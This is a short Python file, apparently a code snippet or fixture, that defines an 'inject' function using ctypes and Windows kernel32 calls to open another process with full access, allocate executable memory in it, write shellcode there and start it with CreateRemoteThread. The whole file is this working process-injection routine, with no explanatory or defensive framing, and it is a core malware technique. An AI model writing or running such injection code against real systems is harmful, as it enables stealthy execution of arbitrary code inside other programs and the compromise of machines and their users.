# ruff: noqa
# fmt: off
# mypy: ignore-errors
import ctypes

kernel32 = ctypes.windll.kernel32


def inject(pid, shellcode):
    process = kernel32.OpenProcess(0x1F0FFF, False, pid)
    address = kernel32.VirtualAllocEx(process, 0, len(shellcode), 0x3000, 0x40)
    kernel32.WriteProcessMemory(process, address, shellcode, len(shellcode), None)
    kernel32.CreateRemoteThread(process, None, 0, address, None, 0, None)
